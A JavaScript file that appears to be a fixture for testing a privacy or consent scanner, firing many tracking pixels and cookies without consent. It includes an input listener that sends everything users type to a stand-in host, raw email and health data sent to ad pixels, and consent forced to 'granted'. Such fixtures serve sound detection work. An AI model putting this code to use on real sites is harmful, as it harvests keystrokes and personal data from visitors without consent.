// A tag of every kind, none of which asks anybody.
const send = (url) => { new Image().src = url; };
const keep = (name, value, days, more = '') => {
  document.cookie = `${name}=${value}; path=/; max-age=${days * 86400}${more}`;
};
const choice = (document.cookie.match(/choice=(\w+)/) || [])[1] || 'none';
const id = '8f14e45fceea167a5a36dedd4bea2543';
const here = encodeURIComponent(location.href);
// first-party identifiers and what they are told to
keep('_fbp', 'fb.1.1700000000000.1234567890', 90);
keep('_ga', 'GA1.1.123456789.1700000000', 800);
keep('_gcl_aw', 'GCL.1700000000.abcdef', 90);
keep('optimizelyEndUserId', 'oeu1700000000000r0.1234567890', 180);
keep('visitor_token', id, 900);
keep('PHPSESSID', 'a3c65c2974270fd093ee8a9bf8ae7d0b', 500);
localStorage.setItem('tracker_uid', id);
send(`https://www.facebook.com/tr/?id=1029384756102938&ev=PageView&dl=${here}&fbp=fb.1.1700000000000.1234567890`);
send(`https://www.facebook.com/tr/?id=5555384756102938&ev=PageView&dl=${here}&ud[em]=5f4dcc3b5aa765d61d8327deb882cf995f4dcc3b5aa765d61d8327deb882cf99`);
send(`https://www.facebook.com/tr/?id=1029384756102938&ev=Lead&ud[em]=jane.roe%40mail.example&ud[external_id]=471100815`);
send(`https://www.facebook.com/tr/?id=1029384756102938&ev=SubscribedButtonClick&dl=${here}`);
send(`https://www.facebook.com/tr/?id=1029384756102938&ev=Purchase&cd[value]=20&cd[currency]=EUR&cd[content_name]=depression%20therapy&cd[content_ids]=%5B%22A1%22%5D&cd[contents]=%5B%7B%22id%22%3A%22A1%22%2C%22quantity%22%3A1%7D%5D`);
send(`https://region1.google-analytics.com/g/collect?v=2&tid=G-ABC1234567&cid=123456789.1700000000&en=page_view&dl=${here}`);
send(`https://region1.google-analytics.com/g/collect?v=2&tid=G-DEN1234567&cid=123456789.1700000000&en=page_view&gcs=G100`);
send(`https://mc.yandex.ru/watch/12345678?page-url=${here}&uid=${id}`);
send(`https://gum.criteo.com/sync?c=1&r=2&uid=${id}`);
send(`https://ib.adnxs.com/getuid?https%3A%2F%2Fcm.g.doubleclick.net%2Fpixel%3Fgoogle_nid%3Dan%26google_cm%26uid%3D${id}`);
send(`https://set-cookie.rules.example/pixel?uid=${id}`);
send(`https://bidder.rules.example/openrtb2/auction?bidfloor=1&adunit=2`);
send(`https://unknown.rules.example/collect?visitor=${id}`);
send(`https://metrics.traffic.test/b/ss/rsid/1/JS-2.0/s1?AQB=1&pageName=home&AQE=1`);
send(`/api/track?event_name=Purchase&event_id=1&fbp=fb.1.1700000000000.1&fbc=fb.1.2.abc&ttclid=abc&client_id=3`);
send(`http://www.facebook.com/tr/?id=1029384756102938&ev=ViewContent`);
// a recorder of sessions that nobody knows: snapshots of the page, again and again
const snapshot = () => navigator.sendBeacon('https://replay.rules.example/rec', JSON.stringify({
  $snapshot: [{ childNodes: [], tagName: 'html', attributes: {}, nodeType: 1, filler: 'x'.repeat(1500) }], rrweb: 1, isCheckout: true,
}));
snapshot(); setTimeout(snapshot, 300); setTimeout(snapshot, 600);
send('https://in.hotjar.com/api/v2/client/sites/123/visit-data?sv=7');
send('https://logx.optimizely.com/v1/events');
send(`https://www.facebook.com/tr/?id=1029384756102938&ev=Search&dl=${encodeURIComponent('https://traffic.test/search?q=quiet+evening&seat=12')}`);
window.dataLayer = window.dataLayer || [];
(function () { dataLayer.push(arguments); })('consent', 'update', { ad_storage: 'granted', analytics_storage: 'granted' });
if (choice === 'rejected') keep('_uetvid', id, 300);
// what is typed goes out at once
document.addEventListener('input', (e) => {
  const value = e.target.value;
  if (value && value.length > 4) {
    navigator.sendBeacon('https://keys.rules.example/typed', JSON.stringify({ field: e.target.name, value }));
    send(`https://in.hotjar.com/api/v2/client/sites/123/feedback?text=${encodeURIComponent(value)}`);
  }
}, true);
if (choice === 'none') {
  // only who scrolls is told of to this one
  addEventListener('scroll', () => send('https://ct.pinterest.com/v3/?event=pagevisit&tid=2612345678901'), { once: true });
}
if (document.cookie.includes('closed=1')) {
  send('https://bat.bing.com/action/0?ti=12345678&evt=pageLoad&Ver=2');
}
